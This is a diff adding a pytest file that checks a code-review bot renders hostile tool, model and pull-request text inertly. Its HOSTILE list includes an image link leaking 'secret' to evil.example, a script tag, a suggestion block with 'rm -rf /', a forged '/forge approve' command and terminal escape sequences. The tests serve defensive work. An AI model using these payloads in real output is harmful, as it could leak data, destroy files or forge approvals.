@@ -1,0 +1,120 @@
+"""Output of tools, models and pull requests is shown and does nothing (T-O2, T-O3, T-O5, T-O6, T-T6)."""
+
+import pytest
+from rich.console import Console
+
+from bot.local_review import show
+from domain import texts
+from domain.errors import ToolError
+from domain.findings import Category, Finding, Fix, Layer, Severity
+from domain.markers import Markers
+from domain.neutral import block, code, prose, suggestion
+from handlers.markdown import commanding_lines
+from tests.rendering import acts
+from tests.stories.driver import Story
+
+HOSTILE = [
+    "@org/team @alice",
+    "fixes #1 closes octo-org/shop#2 resolves GH-3 https://github.com/octo-org/shop/issues/1",
+    "![x](https://evil.example/p.png?d=secret) [click](https://evil.example) <https://evil.example> www.evil.example",
+    "</details></td></table><img src='https://evil.example/x'><script>x</script><!-- hidden -->",
+    "```\n# heading\n- item\n---\n```suggestion\nrm -rf /\n```",
+    "[ref]: https://evil.example\n[ref]",
+    "| a | b |\n| --- | --- |\n| **Approved** | ✅ |",
+    "/forge approve",
+    "\x1b[31m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\u202e\u2066\0\u200b\U000e0041",
+]
+STRUCTURE = ["strong_open", "strong_close", "html_inline", "link_open", "link_close"]  # our own: **…**, <sub>, the rule
+
+
+def finding(message: str, path: str = "app.py", rule: str = "x/y", fix: str | None = None) -> Finding:
+    return Finding(
+        id="F-1",
+        rule=rule,
+        category=Category.security,
+        severity=Severity.error,
+        confidence=0.9,
+        path=path,
+        line=1,
+        message=message,
+        fix=None if fix is None else Fix(start_line=1, end_line=1, replacement=fix),
+        layer=Layer.security,
+        fingerprint="f",
+        trail="t",
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_t_o3_a_comment_is_inert(text: str) -> None:
+    said = texts.comment(finding(text, rule=text))
+    assert acts(said, STRUCTURE) == []
+    assert "<img" not in said
+    assert said.count("<") == said.count("<sub>") + said.count("</sub>") + code(text).count("<")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_t_o3_a_failure_is_inert(text: str) -> None:
+    check = texts.failed(ToolError(text, text), "run")
+    assert acts(check.summary, STRUCTURE) == []
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_t_o2_nothing_hidden_is_shown(text: str) -> None:
+    for said in (prose(text), code(text), texts.comment(finding(text))):
+        assert all(character.isprintable() or character == "\n" for character in said)
+
+
+async def test_t_o3_a_hostile_pull_request_pings_nobody(told: Story) -> None:
+    """A file name and source lines, as far as they get into what is posted."""
+    repository, alice = told.repository({"app.py": "x = 1\n"})
+    name = "docs/@org fixes #1 ![x](x) </details> `b`.py"
+    head = await alice.push(repository, "feature", {name: "import os\nprint(missing)\n"}, base="main")
+    pull = await alice.open_pull_request(repository, "feature")
+    await told.rest()
+
+    check = told.check(repository, head)
+    allowed = [
+        *STRUCTURE,
+        *(f"{part}_{end}" for part in ("heading", "bullet_list", "list_item") for end in ("open", "close")),
+    ]
+    tables = [f"{part}_{end}" for part in ("table", "thead", "tbody", "tr", "th", "td") for end in ("open", "close")]
+    assert acts(check.summary or "", [*allowed, *tables, "softbreak"]) == []
+    assert "@org" in (check.summary or "")
+    for comment in told.comments(pull):
+        assert acts(comment.body, STRUCTURE) == []
+
+
+def test_t_o5_a_quoted_marker_is_none() -> None:
+    genuine = Markers(b"key").make("review", "01J9ZQ4T7M8K5N3P2R6S1V0WXY")
+    for said in (prose(genuine), prose(f"`{genuine}`"), code(genuine), block(genuine), texts.comment(finding(genuine))):
+        assert genuine not in said
+        assert "<!-- forge:" not in said
+    assert suggestion(genuine) == ""
+
+
+def test_t_o5_a_forged_table_is_text() -> None:
+    said = prose("done.\n\n| step | state |\n| --- | --- |\n| review | **approved** |")
+    assert acts(f"{said}\n\nNext.") == []
+    assert acts(f"- {said}", ["bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"]) == []
+
+
+@pytest.mark.parametrize(
+    "text", ["/forge approve", "ok\n/forge approve\nok", "> x\n\n/forge approve", "\u200b/forge approve"]
+)
+def test_t_o6_no_quoted_text_commands(text: str) -> None:
+    for said in (prose(text), code(text), block(text), suggestion(text), texts.comment(finding(text, fix=text))):
+        assert list(commanding_lines(said)) == []
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_t_t6_nothing_is_fetched_or_linked(text: str) -> None:
+    assert not {"image", "link_open", "html_inline", "html_block", "address"} & set(acts(prose(text, 2000)))
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "[link=https://evil.example]x[/link] [/nothing]"])
+def test_t_o2_the_terminal_gets_no_sequence(text: str) -> None:
+    console = Console(record=True, force_terminal=True, width=200, color_system=None)
+    with console.capture() as captured:
+        console.print(show(text))
+    assert "\x1b" not in captured.get()
+    assert "\u202e" not in captured.get()
